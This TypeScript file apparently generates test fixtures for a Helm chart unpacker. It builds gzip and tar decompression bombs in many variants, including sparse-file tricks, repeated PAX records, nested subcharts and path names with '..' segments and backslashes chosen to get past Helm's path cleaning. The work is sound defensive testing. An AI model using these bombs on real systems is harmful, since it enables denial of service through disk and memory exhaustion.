import { constants, deflateRawSync, gzipSync } from 'node:zlib'
import { paxRecord, tarEnd, tarEntry } from './tar-entries.ts'

/** A packed chart that is small as it lies there and takes gigabytes where it is unpacked. */
export interface ArchiveBomb {
  readonly title: string
  /** Of the chart: absent for the packed chart itself, else a file of a chart in a directory. */
  readonly path?: string
  readonly bytes: Buffer
}

/** What a packed chart unpacks to. */
const CHART_BYTES = 10 * 1024 ** 3
/** What a packed subchart in a packed chart unpacks to. */
const INNER_BYTES = 256 * 1024 ** 2

/**
 * Every place for the bytes of an archive, in every way to pack them, in every place of a chart where an archive is
 * unpacked, under every name that means this place. One after the other: together they take gigabytes themselves.
 */
export function* archiveBombs(packings = Object.keys(PACKINGS)): Generator<ArchiveBomb> {
  for (const [content, make] of Object.entries(CONTENTS)) {
    for (const packing of packings) {
      const pack = PACKINGS[packing]
      if (pack === undefined) throw new Error(`no way to pack ${packing}`)
      const title = `${content}, ${packing}`
      const whole = pack(make(CHART_BYTES), CHART_BYTES)
      yield { title: `${title}, as the chart`, bytes: whole }
      yield { title: `${title}, as a subchart of a directory`, path: 'charts/inner.tgz', bytes: whole }
      const inner = pack(make(INNER_BYTES), INNER_BYTES)
      yield { title: `${title}, packed twice`, path: 'charts/a.tgz', bytes: chartAround(inner, INNER_NAMES[0], 9) }
      for (const name of INNER_NAMES) {
        yield { title: `${title}, as a subchart ${JSON.stringify(name)}`, bytes: chartAround(inner, name, 0) }
      }
    }
  }
}

/** A tar that begins with `head` and goes on with `part`, again and again. */
interface Endless {
  readonly head: Buffer
  readonly part: Buffer
}

const PART_BYTES = 4 * 1024 ** 2
const HEAD = tarEntry('demo/Chart.yaml', '0', 'apiVersion: v2\nname: demo\nversion: 1.0.0\n')

const CONTENTS: { readonly [where: string]: (bytes: number) => Endless } = {
  'one file': (bytes) => ({
    head: Buffer.concat([
      HEAD,
      tarEntry('PaxHeader', 'x', paxRecord('size', String(bytes))),
      tarEntry('demo/big', '0', ''),
    ]),
    part: Buffer.alloc(PART_BYTES),
  }),
  'one file, its size in the binary form of GNU': (bytes) => ({
    head: Buffer.concat([HEAD, tarEntry('demo/big', '0', '', { binarySize: bytes })]),
    part: Buffer.alloc(PART_BYTES),
  }),
  'many files': () => ({ head: HEAD, part: tarEntry('demo/part', '0', '\0'.repeat(PART_BYTES - 512)) }),
  'files of no bytes': () => ({ head: HEAD, part: repeated(tarEntry('demo/empty', '0', '')) }),
  'records of PAX': () => ({
    head: HEAD,
    part: repeated(tarEntry('PaxHeader', 'x', paxRecord('comment', 'x'.repeat(900)))),
  }),
  'records of PAX for all': () => ({
    head: HEAD,
    part: repeated(tarEntry('PaxHeader', 'g', paxRecord('comment', 'x'.repeat(900)))),
  }),
  'long names of GNU': () => ({ head: HEAD, part: repeated(tarEntry('././@LongLink', 'L', `${'x'.repeat(900)}\0`)) }),
  'long targets of GNU': () => ({ head: HEAD, part: repeated(tarEntry('././@LongLink', 'K', `${'x'.repeat(900)}\0`)) }),
  'a file with holes': (bytes) => ({
    head: Buffer.concat([
      HEAD,
      tarEntry(
        'PaxHeader',
        'x',
        [
          paxRecord('GNU.sparse.major', '1'),
          paxRecord('GNU.sparse.minor', '0'),
          paxRecord('GNU.sparse.name', 'demo/holes'),
          paxRecord('GNU.sparse.realsize', String(bytes)),
        ].join(''),
      ),
      tarEntry('demo/GNUSparseFile.0/holes', '0', '1\n0\n0\n'.padEnd(512, '\0')),
    ]),
    part: repeated(tarEntry('demo/empty', '0', '')),
  }),
}

function repeated(entry: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: Math.ceil(PART_BYTES / entry.length) }, () => entry))
}

/** Packed once: a flushed part of a stream may stand in it again and again. */
const PACKINGS: { readonly [way: string]: (endless: Endless, bytes: number) => Buffer } = {
  'in one piece': ({ head, part }, bytes) => {
    const flushed = (plain: Buffer) => deflateRawSync(plain, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
    return Buffer.concat([
      GZIP_HEADER,
      flushed(head),
      ...times(bytes / part.length, flushed(part)),
      LAST_BLOCK,
      Buffer.alloc(8),
    ])
  },
  'in pieces': ({ head, part }, bytes) =>
    Buffer.concat([gzipSync(head), ...times(bytes / part.length, gzipSync(part, { level: 9 }))]),
}

const GZIP_HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])
/** An empty block with the mark of the last one. */
const LAST_BLOCK = Buffer.from([3, 0])

function times(count: number, packed: Buffer): readonly Buffer[] {
  return Array.from({ length: Math.ceil(count) }, () => packed)
}

/** Names that mean `charts/inner.tgz`: Helm takes the part behind the first separator, and cleans it. */
const INNER_NAMES = [
  'demo/charts/inner.tgz',
  'demo\\charts\\inner.tgz',
  'demo\\charts/inner.tgz',
  'demo/./charts//inner.tgz',
  'demo/a/../charts/inner.tgz',
  'demo/charts/inner.tgz/',
  'demo/charts/inner.tgz/.',
] as const

function chartAround(inner: Buffer, name: string, level: number): Buffer {
  return gzipSync(Buffer.concat([HEAD, tarEntry(name, '0', inner), tarEnd]), { level })
}
